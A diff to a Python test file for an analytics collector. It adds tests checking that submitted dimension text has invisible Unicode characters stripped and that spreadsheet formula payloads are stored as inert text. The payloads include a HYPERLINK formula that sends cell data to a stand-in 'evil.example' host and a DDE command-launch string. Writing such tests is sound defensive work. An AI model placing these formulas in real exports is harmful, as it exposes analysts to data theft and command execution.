@@ -2,8 +2,8 @@
 around the row gate into a column, or set a dimension or a number that analyst figures are built from.
 
 One test per finding, each sent as any page visitor could, with a browser's user agent: (1) a forged
-`email_hash`, (5) a guessable GA4 session id, (10) an overlong bot or process id in `detail`, (11) numbers no
-average or sum survives. The analyst tables' half of the issue is in tests/test_hostile_analyst.py.
+`email_hash`, (5) a guessable GA4 session id, (9) dimension text that reads as another value or as a formula,
+(10) an overlong bot or process id in `detail`, (11) numbers no average or sum survives. The analyst tables' half of the issue is in tests/test_hostile_analyst.py.
 """
 
 from __future__ import annotations
@@ -137,6 +137,61 @@ def test_a_ga4_session_is_its_client_and_its_sid(collector, local_bigquery, tag)
         sessions.setdefault(row["session_id"], set()).add(row["process_name"])
     assert sorted(sessions.values(), key=sorted) == [{"Forger"}, {"Visitor A"}, {"Visitor B"}]
     assert len([row for row in rows if row["process_name"] == "Visitor A"]) == 2
+
+
+# ------------------------------------------------------------------------------------ (9) text
+
+
+def test_dimension_text_groups_as_it_reads_and_exports_as_text(collector, local_bigquery, tag):
+    """`De\u200bmo` must count as the Demo it shows, a reversed name read as sent, and a formula stay text in the
+    spreadsheet an analyst exports the tables to."""
+    sent = {
+        "zero-width": {"process_name": "De\u200bmo", "utm_source": "news\u2060letter"},
+        "bidi": {"process_name": "\u202eomeD", "utm_source": "\ufeffnewsletter"},
+        "formula": {
+            "process_name": '=HYPERLINK("https://evil.example/?x="&A1,"Demo")',
+            "utm_source": "+cmd|' /C calc'!A0",
+        },
+        "at": {"process_name": "@SUM(1+1)*cmd", "utm_source": "-2+3+cmd"},
+        "tab": {"process_name": "\t=1+1", "utm_source": "\r=1+1"},
+        "plain": {"process_name": "Demo", "utm_source": "-5"},
+    }
+    for label, fields in sent.items():
+        event = {"event": "open", "bot_id": tag, "page_title": fields["process_name"]}
+        event["detail"] = {"process_name": fields["process_name"], "label": label}
+        event["utm"] = {"source": fields["utm_source"]}
+        assert collector.post(event).status_code == 200, label
+    rows = {row["label"]: row for row in local_bigquery.events("bot_id = @tag", tag=tag)}
+    stored = {label: (row["process_name"], row["utm_source"]) for label, row in rows.items()}
+    assert stored == {
+        "zero-width": ("Demo", "newsletter"),
+        "bidi": ("omeD", "newsletter"),
+        "formula": ('\'=HYPERLINK("https://evil.example/?x="&A1,"Demo")', "'+cmd|' /C calc'!A0"),
+        "at": ("'@SUM(1+1)*cmd", "'-2+3+cmd"),
+        "tab": ("'\t=1+1", "'\r=1+1"),
+        "plain": ("Demo", "-5"),
+    }
+    assert {label: row["page_title"] for label, row in rows.items()} == {
+        label: name for label, (name, _) in stored.items()
+    }
+
+
+def test_every_format_character_is_removed_and_nothing_else():
+    """Against Python's own Unicode database: RE2's `\\p{Cf}` must cover every format character it lists."""
+    import sys
+    import unicodedata
+
+    from loyjoy_collector.privacy.dimensions import dimension_text
+
+    for code in range(sys.maxunicode + 1):
+        if 0xD800 <= code <= 0xDFFF:
+            continue
+        char = chr(code)
+        if unicodedata.category(char) == "Cf":
+            assert dimension_text(f"a{char}b") == "ab", hex(code)
+    kept = "Grüße 👨‍👩‍👧 ∑ ½ ١٢٣ مرحبا"
+    assert dimension_text(kept) == kept.replace("\u200d", "")
+    assert dimension_text("+49 30 1234") == "'+49 30 1234" and dimension_text("+3.5") == "+3.5"
 
 
 # ----------------------------------------------------------------------------- (10) cardinality
